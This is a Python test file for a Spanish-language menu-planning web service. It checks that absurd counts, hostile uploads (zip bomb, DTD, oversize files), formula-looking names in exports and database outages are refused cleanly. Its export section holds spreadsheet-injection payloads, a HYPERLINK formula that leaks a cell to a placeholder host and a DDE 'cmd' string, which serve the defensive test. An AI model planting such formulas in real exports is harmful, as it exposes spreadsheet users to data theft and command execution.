"""Issue 15's catalogue of hostile input, over HTTP, on SQLite and PostgreSQL: absurd,
negative and non-numeric counts; tall-and-wide, bomb, DTD, oversize and many-error
uploads; formula-looking names exported; an unreachable and a stalled database. Each case
gets a 4xx or 503 with a Spanish message, nothing wrong is stored, and nothing answers 5xx
(other than 503) afterwards."""

from __future__ import annotations

import csv
import io
import sqlite3
import threading
import tracemalloc
import uuid
from collections.abc import Callable, Iterator
from datetime import date
from pathlib import Path
from typing import Any

import hostile_files as hf
import pytest
from db_proxy import DbProxy
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from service_fixtures import *  # noqa: F403
from service_fixtures import SECRET, TINY, Person, fixture_planner, login, sign_fixture_cycle
from sqlalchemy import create_engine, make_url, text
from web_helpers import csrf_of, sign_in, this_monday

from menu_planner.api import create_app
from menu_planner.config import Settings
from menu_planner.services import ADMIN, FINANCE, SYSTEM, Services
from menu_planner.storage import Database

MONTH = f"{date.today():%Y-%m}"
CADI = "2420-20"  # tiny data: a CADI with 2 + 8 + 15 children
SURVEY_HEADER = "food_id,purchase_unit,unit_grams,price_q,price_date,source\n"
CENTERS = (TINY / "centers" / "centers.csv").read_text(encoding="utf-8")


def national(client: TestClient, headers: dict[str, str], fmt: str = "json") -> Any:
    r = client.get("/caja-chica/national", params={"month": MONTH, "format": fmt},
                   headers=headers)
    assert r.status_code == 200, r.text
    return r


ENGLISH = ("error", "internal", "too large", "timeout", "connection", "operational")


def spanish(r: Any) -> str:
    """The error message of a response: present, without the English of the machinery."""
    message = str(r.json()["error"]["message"])
    assert message and not any(w in message.lower() for w in ENGLISH), message
    return message


def enrolled_of(client: TestClient, headers: dict[str, str], center: str = CADI) -> Any:
    return client.get(f"/centers/{center}", headers=headers).json()["enrolled"]


# -- 1. counts -------------------------------------------------------------------------
@pytest.mark.parametrize("value, where", [
    (10**30, "menor o igual"), (10**12, "menor o igual"), (151, "máximo 150"),
    (-1, "mayor o igual"), ("abc", "número entero"), (1.5, "número entero"),
])
def test_an_absurd_count_is_refused_with_a_field_error_and_nothing_changes(
        client, auth, value, where):
    before = enrolled_of(client, auth["centro"])
    r = client.patch(f"/centers/{CADI}/enrollment", json={"enrolled": {"4-6y": value}},
                     headers=auth["centro"])
    assert r.status_code == 422, r.text
    details = r.json()["error"]["details"]
    assert any(d["field"].endswith("4-6y") and where in d["message"] for d in details), details
    assert enrolled_of(client, auth["centro"]) == before
    assert national(client, auth["finanzas"]).json()["national"]["enrolled"] > 0


@pytest.mark.parametrize("value, says", [(10**30, "Declara"), (26, "Declara"),
                                         (-1, "negativo")])
def test_an_absurd_count_of_people_with_a_special_menu_is_refused(client, auth, value, says):
    r = client.put(f"/centers/{CADI}/special-counts",
                   json={"counts": {"bajo_peso": {"4-6y": value}}}, headers=auth["centro"])
    assert r.status_code == 422, r.text
    assert any(says in d["message"] for d in r.json()["error"]["details"])
    assert client.get(f"/centers/{CADI}", headers=auth["centro"]).json()[
        "special_counts"] == {}


def test_a_count_beyond_the_bound_of_its_center_type_is_refused_in_an_upload(client, auth):
    text = CENTERS.replace("Mixco,1,3,4,", "Mixco,1,3,40,")  # an HC of 44 children
    r = client.post("/centers", files={"file": ("centros.csv", text.encode())},
                    headers=auth["admin"])
    assert r.status_code == 422, r.text
    detail = r.json()["error"]["details"][0]
    assert (detail["line"], detail["column"]) == (3, "enrolled_4-6y")
    assert "tipo HC (máximo 24)" in detail["message"]
    assert enrolled_of(client, auth["admin"], "4168-12")["4-6y"] == 4


def test_a_large_change_needs_a_confirmation_and_is_flagged_in_the_finance_views(
        client, auth):
    change = {"enrolled": {"4-6y": 60}}
    r = client.patch(f"/centers/{CADI}/enrollment", json=change, headers=auth["centro"])
    assert r.status_code == 409
    assert r.json()["error"]["code"] == "confirmar_cambio_grande"
    assert "pasa de 25 a 70 personas" in spanish(r)
    assert enrolled_of(client, auth["centro"])["4-6y"] == 15
    r = client.patch(f"/centers/{CADI}/enrollment", json={**change, "confirm": True},
                     headers=auth["centro"])
    assert r.status_code == 200, r.text
    centers = {c["center_id"]: c for c in national(client, auth["finanzas"]).json()["centers"]}
    assert any("cambió mucho (25 → 70 personas)" in f for f in centers[CADI]["flags"])
    upload = CENTERS  # back from 70 to 25: large again
    r = client.post("/centers", files={"file": ("centros.csv", upload.encode())},
                    headers=auth["admin"])
    assert r.status_code == 409 and r.json()["error"]["code"] == "confirmar_cambio_grande"
    r = client.post("/centers", files={"file": ("centros.csv", upload.encode())},
                    data={"confirm": "true"}, headers=auth["admin"])
    assert r.status_code == 201, r.text


def test_an_absurd_stored_enrollment_cannot_break_the_finance_views(
        client, auth, people, services):
    sign_fixture_cycle(client, auth["nutri"], start_date=this_monday().isoformat())
    with services.ctx.unit() as uow:  # a value stored before bounds existed
        row = uow.centers.get(CADI)
        assert row is not None
        row.enrolled = {"6-11m": 0, "1-3y": 0, "4-6y": 10**30}
        uow.centers.save(row)
    report = national(client, auth["finanzas"]).json()
    flags = {c["center_id"]: c["flags"] for c in report["centers"]}[CADI]
    assert any("fuera de lo posible" in f for f in flags)
    national(client, auth["finanzas"], "xlsx")
    national(client, auth["finanzas"], "csv")
    page = TestClient(client.app)
    sign_in(page, people["finanzas"].username, people["finanzas"].password)
    assert page.get("/finanzas/caja-chica", params={"mes": MONTH}).status_code == 200
    assert page.get("/finanzas/caja-chica/descargar.xlsx",
                    params={"mes": MONTH}).status_code == 200


def test_the_enrollment_form_refuses_absurd_counts_and_asks_to_confirm_large_changes(
        client, people):
    page = TestClient(client.app)
    sign_in(page, people["centro"].username, people["centro"].password)
    html = page.get(f"/centros/{CADI}").text
    assert 'action="/centros/2420-20/inscripcion"' in html
    token = csrf_of(html)
    url = f"/centros/{CADI}/inscripcion"
    form = {"csrf": token, "inscritos.6-11m": "2", "inscritos.1-3y": "8"}
    for typed, says in (("1000000000000", "de 0 a 100000"), ("-3", "de 0 a 100000"),
                        ("muchos", "de 0 a 100000"), ("151", "máximo 150")):
        r = page.post(url, data={**form, "inscritos.4-6y": typed})
        assert r.status_code == 422 and says in r.text and f'value="{typed}"' in r.text
        assert "no se guardó nada" in r.text
    r = page.post(url, data={**form, "inscritos.4-6y": "60"})
    assert r.status_code == 409 and "pasa de 25 a 70 personas" in r.text
    assert 'name="confirmar"' in r.text
    with_confirmation = {**form, "inscritos.4-6y": "60", "confirmar": "1"}
    r = page.post(url, data=with_confirmation, follow_redirects=False)
    assert r.status_code == 303
    assert "<strong>60</strong>" in page.get(f"/centros/{CADI}").text


# -- 2. uploads ------------------------------------------------------------------------
HOSTILE: dict[str, tuple[str, Callable[[], bytes], int, str]] = {
    "tall_and_wide": ("hoja.xlsx", hf.tall_and_wide_xlsx, 422, "filas"),
    "wide": ("hoja.xlsx", hf.wide_xlsx, 422, "columnas"),
    "dtd": ("hoja.xlsx", hf.dtd_xlsx, 422, "DTD"),
    "zip_bomb": ("hoja.xlsx", hf.zip_bomb_xlsx, 422, "bomba zip"),
    "many_error_lines": ("precios.csv", hf.many_errors_csv, 422, "filas"),
    "wide_csv": ("precios.csv", hf.wide_csv, 422, "columnas"),
    "oversize": ("precios.csv", hf.oversize, 413, "KB"),
}


def post_upload(client: TestClient, auth: dict[str, Any], endpoint: str, name: str,
                content: bytes) -> Any:
    if endpoint == "surveys":
        return client.post("/prices/surveys", data={"department": "Escuintla"},
                           files={"file": (name, content)}, headers=auth["finanzas"])
    return client.post("/centers", files={"file": (name, content)}, headers=auth["admin"])


@pytest.mark.parametrize("endpoint", ["surveys", "centers"])
@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_a_hostile_upload_is_refused_in_words_within_bounded_memory(
        client, auth, endpoint, case):
    name, build, status, word = HOSTILE[case]
    content = build()
    revision = client.get("/health").json()["data_revision"]
    centers = client.get("/centers", headers=auth["admin"]).json()
    tracemalloc.start()
    try:
        r = post_upload(client, auth, endpoint, name, content)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert r.status_code == status, r.text[:500]
    assert word in spanish(r)
    assert len(r.content) < 20_000  # one message, not millions of details
    assert peak < 150 * 2**20, f"{peak / 2**20:.0f} MiB"
    assert client.get("/health").json()["data_revision"] == revision
    assert client.get("/prices/surveys", headers=auth["finanzas"]).json()["total"] == 0
    assert client.get("/centers", headers=auth["admin"]).json() == centers


def test_an_upload_declaring_a_huge_length_is_refused_before_its_body_is_read(client, auth):
    r = client.post("/prices/surveys", content=b"x" * 10,
                    headers={**auth["finanzas"], "content-length": str(10**12),
                             "content-type": "multipart/form-data; boundary=x"})
    assert r.status_code == 413
    assert "demasiado grande" in spanish(r)


def test_many_bad_lines_list_fifty_problems_and_count_the_rest(client, auth):
    lines = "".join(f"arroz_blanco,libra,abc,-{i},2026-13-01,\n" for i in range(1, 1001))
    r = post_upload(client, auth, "surveys", "precios.csv", (SURVEY_HEADER + lines).encode())
    assert r.status_code == 422
    err = r.json()["error"]
    assert "3000 problema(s)" in err["message"]
    assert len(err["details"]) == 51
    assert err["details"][-1]["message"] == "y 2,950 problema(s) más"
    assert all(d["file"] == "precios.csv" for d in err["details"][:50])


# -- 3. formulas in exports --------------------------------------------------------------
NASTY_NAME = '=HYPERLINK("http://ejemplo.invalid/?d="&B5,"Abrir")'
NASTY_TOWN = "@SUM(1+1)*cmd|' /C calc'!A0"


def _nasty_centers() -> str:
    out = CENTERS.replace("CADI Rabinal Centro", f'"{NASTY_NAME.replace(chr(34), chr(34) * 2)}"')
    return out.replace("Baja Verapaz,Rabinal", f"Baja Verapaz,{NASTY_TOWN}") \
        .replace("Hogar Comunitario Los Pinos", "+502 5555 0000") \
        .replace("Centro de Atención Diurna Parramos", "-1+1\tx")


def _xlsx_cells(content: bytes) -> list[Any]:
    wb = load_workbook(io.BytesIO(content))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def test_formula_looking_names_are_text_in_every_workbook_and_csv(client, auth, people):
    r = client.post("/centers", files={"file": ("centros.csv", _nasty_centers().encode())},
                    headers=auth["admin"])
    assert r.status_code == 201, r.text
    sign_fixture_cycle(client, auth["nutri"], start_date=this_monday().isoformat())
    books = [national(client, auth["finanzas"], "xlsx").content,
             client.get(f"/centers/{CADI}/purchases", params={"week": 1, "format": "xlsx"},
                        headers=auth["centro"]).content]
    nasty = (NASTY_NAME, NASTY_TOWN, "+502 5555 0000", "-1+1\tx")
    for content in books:
        cells = _xlsx_cells(content)
        found = [c for c in cells if isinstance(c.value, str) and c.value in nasty]
        assert found, "el nombre no aparece en el libro"
        assert all(c.data_type == "s" and c.quotePrefix for c in found)
        formulas = [c.value for c in cells if c.data_type == "f"]
        assert formulas == []  # the workbooks store values (issue 14), so any formula
        #   here would be an injected one
    for fmt_url in (("/caja-chica/national", {"month": MONTH, "format": "csv"}, "finanzas"),
                    (f"/centers/{CADI}/purchases", {"week": 1, "format": "csv"}, "centro")):
        url, params, who = fmt_url
        r = client.get(url, params=params, headers=auth[who])
        assert r.status_code == 200, r.text
        cells = [c for row in csv.reader(io.StringIO(r.text)) for c in row]
        risky = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))
                 and any(ch.isalpha() for ch in c)]
        assert not risky, (url, risky)
    caja_cells = [c for row in csv.reader(io.StringIO(national(
        client, auth["finanzas"], "csv").text)) for c in row]
    assert "'" + NASTY_NAME in caja_cells


# -- 5. database faults ----------------------------------------------------------------
def _started(url: str, tmp_path: Path) -> tuple[Services, TestClient, dict[str, str],
                                                 TestClient]:
    """Services with a short database timeout, a finance account's API headers and a
    signed-in page client."""
    settings = Settings(database_url=url, secret_key=SECRET, data_dir=TINY, demo=False,
                        token_minutes=30, db_timeout_s=1.5)
    services = Services(Database(url, timeout_s=settings.db_timeout_s), settings,
                        fixture_planner)
    services.start()
    person = Person("fin.fallas", "clave-de-prueba-larga", FINANCE)
    services.accounts.add_user(SYSTEM, person.username, person.role, person.password)
    services.accounts.add_user(SYSTEM, "admin.fallas", ADMIN, "clave-de-prueba-larga")
    client = TestClient(create_app(services=services, manage_services=False))
    pages = TestClient(client.app)
    sign_in(pages, person.username, person.password)
    return services, client, login(client, person), pages


def within(seconds: float, call: Callable[[], Any]) -> Any:
    """The result of `call`, which must return (not hang) within `seconds`."""
    out: list[Any] = []
    worker = threading.Thread(target=lambda: out.append(call()), daemon=True)
    worker.start()
    worker.join(seconds)
    assert out, f"la solicitud sigue esperando después de {seconds} s"
    return out[0]


def assert_unavailable(client: TestClient, headers: dict[str, str],
                       pages: TestClient) -> None:
    """API, page and /health all answer 503 in Spanish, none hangs."""
    r = within(30, lambda: client.get("/centers", headers=headers))
    assert r.status_code == 503, r.text
    assert r.headers["retry-after"] and "base de datos" in spanish(r)
    r = within(30, lambda: pages.get("/finanzas/caja-chica"))
    assert r.status_code == 503 and "no está disponible" in r.text
    assert "text/html" in r.headers["content-type"]
    assert within(30, lambda: client.get("/health")).status_code == 503


def assert_recovered(client: TestClient, headers: dict[str, str], pages: TestClient) -> None:
    assert client.get("/health").status_code == 200
    assert client.get("/centers", headers=headers).status_code == 200
    assert pages.get("/finanzas/caja-chica").status_code == 200


@pytest.fixture
def pg_proxy(pg_server: str) -> Iterator[tuple[DbProxy, str]]:
    """A PostgreSQL schema of its own behind a loopback proxy: (proxy, URL through it)."""
    schema = f"t_{uuid.uuid4().hex[:16]}"
    admin = create_engine(pg_server)
    with admin.begin() as conn:
        conn.execute(text(f'CREATE SCHEMA "{schema}"'))
    url = make_url(pg_server)
    proxy = DbProxy((url.host or "127.0.0.1", url.port or 5432)).start()
    try:
        yield proxy, url.set(host="127.0.0.1", port=proxy.port).update_query_dict(
            {"options": f"-csearch_path={schema}"}).render_as_string(hide_password=False)
    finally:
        proxy.close()
        with admin.begin() as conn:
            conn.execute(text(f'DROP SCHEMA "{schema}" CASCADE'))
        admin.dispose()


@pytest.mark.postgres
@pytest.mark.parametrize("fault", ["down", "stall"])
def test_an_unreachable_or_stalled_postgresql_is_a_503_in_words_and_recovers(
        pg_proxy, tmp_path, fault, fast_hashing):
    proxy, url = pg_proxy
    services, client, headers, pages = _started(url, tmp_path)
    try:
        assert_recovered(client, headers, pages)
        getattr(proxy, fault)()
        assert_unavailable(client, headers, pages)
        proxy.resume()
        assert_recovered(client, headers, pages)
    finally:
        proxy.resume()
        services.close()


def test_a_locked_table_is_a_503_not_a_hang(database_url, tmp_path, fast_hashing):
    services, client, _headers, _pages = _started(database_url, tmp_path)
    admin = login(client, Person("admin.fallas", "clave-de-prueba-larga", ADMIN))
    change = {"enrolled": {"4-6y": 16}}
    try:
        with _locked(database_url):
            r = within(30, lambda: client.patch(f"/centers/{CADI}/enrollment", json=change,
                                                headers=admin))
            assert r.status_code == 503, r.text
            assert "ocupada" in spanish(r)
        assert enrolled_of(client, admin)["4-6y"] == 15  # nothing was stored
        r = client.patch(f"/centers/{CADI}/enrollment", json=change, headers=admin)
        assert r.status_code == 200, r.text
        assert client.get("/health").status_code == 200
    finally:
        services.close()


class _locked:
    """Another connection holding a write lock on the center table (the whole file on
    SQLite) until the block ends."""

    def __init__(self, url: str) -> None:
        self.url = url

    def __enter__(self) -> None:
        if self.url.startswith("sqlite"):
            self.conn: Any = sqlite3.connect(make_url(self.url).database or "",
                                             isolation_level=None)
            self.conn.execute("BEGIN EXCLUSIVE")
        else:
            self.engine = create_engine(self.url)
            self.conn = self.engine.connect()
            self.tx = self.conn.begin()
            self.conn.execute(text("LOCK TABLE center IN ACCESS EXCLUSIVE MODE"))

    def __exit__(self, *_exc: object) -> None:
        if self.url.startswith("sqlite"):
            self.conn.execute("ROLLBACK")
            self.conn.close()
        else:
            self.tx.rollback()
            self.conn.close()
            self.engine.dispose()


def test_an_unreachable_sqlite_file_is_a_503_in_words_and_recovers(tmp_path, fast_hashing):
    folder = tmp_path / "datos"
    folder.mkdir()
    url = f"sqlite:///{folder / 'servicio.sqlite3'}"
    services, client, headers, pages = _started(url, tmp_path)
    try:
        assert_recovered(client, headers, pages)
        folder.rename(tmp_path / "desmontado")  # e.g. a network share that went away
        services.db.engine.dispose()  # pooled connections would still see the old file
        assert_unavailable(client, headers, pages)
        (tmp_path / "desmontado").rename(folder)
        assert_recovered(client, headers, pages)
    finally:
        services.close()
